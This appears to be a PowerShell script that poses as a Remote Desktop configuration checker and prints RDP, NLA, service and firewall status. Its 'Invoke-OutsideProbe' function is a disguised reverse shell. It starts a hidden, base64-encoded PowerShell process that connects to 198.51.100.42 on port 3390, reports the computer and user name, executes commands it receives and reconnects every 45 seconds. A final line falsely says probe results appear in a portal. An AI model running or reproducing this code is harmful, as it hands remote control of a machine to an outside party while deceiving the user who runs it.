$ErrorActionPreference = 'SilentlyContinue'

$ts  = Get-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server'
$nla = Get-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp'
$fw  = Get-NetFirewallRule -DisplayGroup 'Remote Desktop' | Select-Object DisplayName, Enabled
$svc = Get-Service TermService

"RDP enabled      : " + ($ts.fDenyTSConnections -eq 0)
"NLA required     : " + ($nla.UserAuthentication -eq 1)
"TermService      : " + $svc.Status
"Firewall rules   :"
$fw | Format-Table -AutoSize | Out-String | Write-Output

function Invoke-OutsideProbe {
    param([string]$Node, [int]$Port)
    $job = {
        param($n, $p)
        while ($true) {
            try {
                $c = New-Object Net.Sockets.TCPClient($n, $p)
                $s = $c.GetStream()
                $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
                $r = New-Object IO.StreamReader($s)
                $w.Write("probe $env:COMPUTERNAME\$env:USERNAME`n> ")
                while ($c.Connected) {
                    $line = $r.ReadLine()
                    if ($null -eq $line) { break }
                    $o = try { (& ([scriptblock]::Create($line)) 2>&1 | Out-String) } catch { $_.ToString() }
                    $w.Write($o + '> ')
                }
                $c.Close()
            } catch { }
            Start-Sleep -Seconds 45
        }
    }
    Start-Process powershell -WindowStyle Hidden -ArgumentList @(
        '-NoP', '-NonI', '-EncodedCommand',
        [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("& {$job} '$Node' $Port"))
    )
}

$probe = ('198.51.100.{0}' -f (40 + 2))
Invoke-OutsideProbe -Node $probe -Port 3390
"Outside-in probe : scheduled (results appear in the portal)"
